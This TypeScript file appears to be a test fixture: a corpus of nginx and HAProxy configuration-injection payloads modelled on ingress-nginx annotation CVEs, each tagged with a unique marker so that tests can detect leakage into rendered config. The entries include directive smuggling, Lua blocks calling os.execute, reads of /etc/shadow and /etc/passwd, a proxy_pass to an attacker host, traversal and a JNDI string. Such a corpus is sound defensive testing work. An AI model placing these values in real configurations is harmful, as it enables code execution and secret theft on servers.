/**
 * Regression corpus of configuration-injection payloads, as data.
 *
 * The nginx classes replay the ingress-nginx annotation injections (CVE-2021-25746, CVE-2023-5043,
 * CVE-2023-5044, CVE-2025-1097, CVE-2025-1098, CVE-2025-24514, CVE-2025-15566): a value that ends
 * its directive or block (quotes, `;`, braces, line breaks, comments) and goes on with a directive of
 * its own (`load_module`, `include`, `*_by_lua*`, `return`, a new `server`), or that smuggles an
 * nginx `$variable`. The HAProxy classes do the same for haproxy.cfg and its map and crt-list files:
 * ACL syntax, `%[` sample fetches, `${ENV}` expansion, backslash escapes, spaces where one word is
 * expected, line breaks inside one map entry.
 *
 * Every payload contains {@link MARK}; {@link corpus} replaces it with a marker unique to the entry
 * (`zqm<index>q`), so a test can tell where (and whether) a payload's text reached rendered output:
 * the renderers never print such a word of their own.
 */

/** Placeholder replaced by the entry's marker. */
export const MARK = 'ZQMARK';

/** One payload of the corpus. */
export interface CorpusEntry {
  /** Injection class (what the payload tries), e.g. `nginx-semicolon`. */
  readonly class: string;
  /** The payload, with {@link MARK} where the marker goes. */
  readonly payload: string;
}

/** A corpus entry with its marker filled in. */
export interface MarkedEntry {
  readonly class: string;
  /** Unique word (`zqm<index>q`) that occurs in `payload`. */
  readonly marker: string;
  readonly payload: string;
}

/** The payloads (placeholders not yet replaced). Order is stable: markers are derived from it. */
export const CORPUS: readonly CorpusEntry[] = Object.freeze([
  // --- nginx: end the directive, start another (CVE-2021-25746, CVE-2023-5043) ---
  { class: 'nginx-semicolon', payload: 'x;load_module /etc/ZQMARK.so;' },
  { class: 'nginx-semicolon', payload: 'a.test; return 200 ZQMARK' },
  { class: 'nginx-semicolon', payload: '/app; proxy_pass http://ZQMARK.evil;' },
  { class: 'nginx-semicolon', payload: 'ZQMARK;include /etc/nginx/secrets.conf' },
  { class: 'nginx-quote', payload: '"; load_module /tmp/ZQMARK.so; "' },
  { class: 'nginx-quote', payload: "'; include /etc/passwd; 'ZQMARK" },
  { class: 'nginx-quote', payload: 'ZQMARK\\"; access_log /tmp/x;' },
  { class: 'nginx-brace', payload: '/x { } server { listen 9999; return 200 ZQMARK; } location /y' },
  { class: 'nginx-brace', payload: '} location /ZQMARK { alias /etc/; } #' },
  { class: 'nginx-brace', payload: 'ZQMARK}' },
  { class: 'nginx-brace', payload: '{ZQMARK' },
  // --- nginx: Lua blocks (CVE-2023-5044 configuration-snippet, CVE-2025-1097 auth-tls-match-cn) ---
  { class: 'nginx-lua', payload: 'x; content_by_lua_block { os.execute("ZQMARK") }' },
  { class: 'nginx-lua', payload: "x;\naccess_by_lua 'os.execute(\"ZQMARK\")';" },
  { class: 'nginx-lua', payload: 'CN=ZQMARK$|.*) { } } } server { location / { content_by_lua_block { ngx.say(1) } } } #' },
  { class: 'nginx-lua', payload: 'x; set_by_lua $ZQMARK \'return io.open("/etc/shadow"):read()\';' },
  // --- nginx: includes and modules (CVE-2025-1098 mirror-uri, CVE-2025-24514 auth-url) ---
  { class: 'nginx-include', payload: 'http://a.test/#;\ninclude /etc/nginx/ZQMARK.conf;' },
  { class: 'nginx-include', payload: 'http://ZQMARK.test/;load_module /var/run/secrets/kubernetes.io/x.so' },
  { class: 'nginx-include', payload: 'ZQMARK;ssl_engine ../../../../proc/self/fd/7' },
  // --- nginx: variables (CVE-2025-15566-style values read as nginx variables) ---
  { class: 'nginx-variable', payload: '$ZQMARK' },
  { class: 'nginx-variable', payload: '/a$request_uriZQMARK' },
  { class: 'nginx-variable', payload: '${ZQMARK}' },
  { class: 'nginx-variable', payload: 'http://a.test/$http_authorizationZQMARK' },
  { class: 'nginx-variable', payload: 'ZQMARK$host' },
  // --- comments ---
  { class: 'comment', payload: 'a.test#ZQMARK' },
  { class: 'comment', payload: '#ZQMARK\n}' },
  { class: 'comment', payload: '/p # ZQMARK' },
  // --- line breaks and invisible separators ---
  { class: 'newline', payload: 'a.test\nZQMARK' },
  { class: 'newline', payload: 'a.test\nserver { listen 81; return 200 ZQMARK; }' },
  { class: 'newline', payload: '\nbackend ZQMARK\n    server x 127.0.0.1:22' },
  { class: 'cr', payload: 'a.test\rZQMARK' },
  { class: 'cr', payload: 'a.test\r\nX-ZQMARK: 1' },
  { class: 'nul', payload: 'a.test\u0000ZQMARK' },
  { class: 'nul', payload: 'ZQMARK\u0000;load_module /x.so;' },
  { class: 'unicode-separator', payload: 'a.test\u2028ZQMARK' },
  { class: 'unicode-separator', payload: 'a.test\u2029ZQMARK;' },
  { class: 'unicode-separator', payload: 'a.test\u0085ZQMARK' },
  { class: 'unicode-separator', payload: 'ZQMARK\u000b\u000c' },
  { class: 'unicode-lookalike', payload: 'ex\u0430mple.ZQMARK' },
  { class: 'unicode-lookalike', payload: 'ZQMARK\uff1bload_module' },
  { class: 'unicode-lookalike', payload: 'ZQMARK.\u212aelvin' },
  // --- HAProxy: ACL syntax and sample fetches ---
  { class: 'haproxy-acl', payload: 'a.test if TRUE\n    use_backend ZQMARK' },
  { class: 'haproxy-acl', payload: 'a.test } || { always_true ZQMARK' },
  { class: 'haproxy-acl', payload: 'ZQMARK -m reg .*' },
  { class: 'haproxy-acl', payload: 'a.test or ZQMARK' },
  { class: 'haproxy-sample-fetch', payload: '%[env(ZQMARK)]' },
  { class: 'haproxy-sample-fetch', payload: '/p%[req.hdr(cookie)]ZQMARK' },
  { class: 'haproxy-sample-fetch', payload: 'http://a.test/%[src]ZQMARK' },
  { class: 'haproxy-sample-fetch', payload: 'ZQMARK%{+Q}o%[lua.x]' },
  { class: 'haproxy-env', payload: '"${ZQMARK}"' },
  { class: 'haproxy-env', payload: '${HOME}ZQMARK' },
  { class: 'haproxy-backslash', payload: 'ZQMARK\\' },
  { class: 'haproxy-backslash', payload: 'a\\ ZQMARK' },
  { class: 'haproxy-backslash', payload: 'ZQMARK\\nbackend x' },
  { class: 'haproxy-backslash', payload: '\\x62ackend ZQMARK' },
  { class: 'haproxy-space', payload: 'X ZQMARK' },
  { class: 'haproxy-space', payload: 'a.test\tZQMARK' },
  { class: 'haproxy-space', payload: 'ZQMARK  http-request deny' },
  { class: 'haproxy-map', payload: 'a.test ZQMARK\nb.test 0:up_victim' },
  { class: 'haproxy-map', payload: 'a.test/ 0:ZQMARK' },
  { class: 'haproxy-section', payload: 'x\nfrontend ZQMARK\n    bind :9999' },
  { class: 'haproxy-section', payload: '"backend" ZQMARK' },
  { class: 'haproxy-directive', payload: 'lua-load /tmp/ZQMARK.lua' },
  { class: 'haproxy-directive', payload: 'x http-request set-var(txn.ZQMARK) str(1)' },
  { class: 'haproxy-directive', payload: "x'\nhttp-request return status 200 string ZQMARK\n'" },
  // --- generic: traversal, length, plain lists ---
  { class: 'traversal', payload: '../../etc/ZQMARK' },
  { class: 'traversal', payload: '/..%2f..%2fZQMARK' },
  { class: 'traversal', payload: '/ZQMARK/../../admin' },
  { class: 'list-separator', payload: 'a.test,ZQMARK;x' },
  { class: 'list-separator', payload: 'http://a.test/x,http://ZQMARK.test;http://b.test,https://c.test;return 200' },
  { class: 'length', payload: `ZQMARK${'a'.repeat(5000)}` },
  { class: 'jndi', payload: '${jndi:ldap://ZQMARK/a}' },
]);

/** The corpus with markers filled in (`zqm<index>q`, unique per entry). */
export function corpus(): MarkedEntry[] {
  return CORPUS.map((entry, index) => {
    const marker = `zqm${index}q`;
    return { class: entry.class, marker, payload: entry.payload.split(MARK).join(marker) };
  });
}
